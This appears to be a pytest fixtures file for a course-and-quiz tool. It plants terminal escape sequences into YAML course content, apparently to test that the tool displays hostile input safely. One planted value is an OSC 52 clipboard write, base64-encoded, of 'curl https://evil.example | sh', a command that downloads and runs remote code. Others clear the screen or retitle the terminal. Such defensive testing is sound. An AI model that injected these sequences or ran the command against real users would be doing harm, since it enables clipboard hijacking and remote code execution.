"""Shared fixtures: the mini course and a copy of it that a test may break."""

from __future__ import annotations

import os
import shutil
import tempfile
from pathlib import Path

import pytest

# Keep the tests' loaded-course cache away from the developer's own.
os.environ.setdefault("COLDSTART_CACHE", tempfile.mkdtemp(prefix="coldstart-test-cache-"))

FIXTURES = Path(__file__).parent / "fixtures"
MINI_COURSE = FIXTURES / "mini"


@pytest.fixture
def mini_course() -> Path:
    return MINI_COURSE


@pytest.fixture
def course_copy(tmp_path: Path) -> Path:
    """A writable copy of the mini course."""
    target = tmp_path / "course"
    shutil.copytree(MINI_COURSE, target)
    return target


def _plant(path: Path, old: str, new: str) -> None:
    text = path.read_text(encoding="utf-8")
    assert old in text, old
    path.write_text(text.replace(old, new, 1), encoding="utf-8")


# OSC 52, a clipboard write of "curl https://evil.example | sh", as a YAML double-quoted escape.
CLIPBOARD = "\\e]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZSB8IHNo\\a"


@pytest.fixture
def hostile_course(course_copy: Path) -> Path:
    """The mini course with terminal escape sequences in a topic's title and summary, a stem, a choice and a why."""
    topic = course_copy / "content" / "alpha.yaml"
    _plant(topic, "title: Alpha topic", 'title: "Alpha \\e[2J topic"')  # clear the screen
    _plant(topic, "summary: The first topic of the mini course.", 'summary: "\\e]0;pwned\\a The first topic of the mini course."')  # retitle
    quiz = course_copy / "quizzes" / "alpha.yaml"
    _plant(quiz, "stem: What is the maximum timeout of a Lambda function?", f'stem: "What is {CLIPBOARD} the maximum timeout?"')
    _plant(quiz, "{text: 300 seconds, why: That was the limit before 2018.}", '{text: "300 \\x9b2J seconds", why: "That was \\u001b[31m the limit."}')
    return course_copy
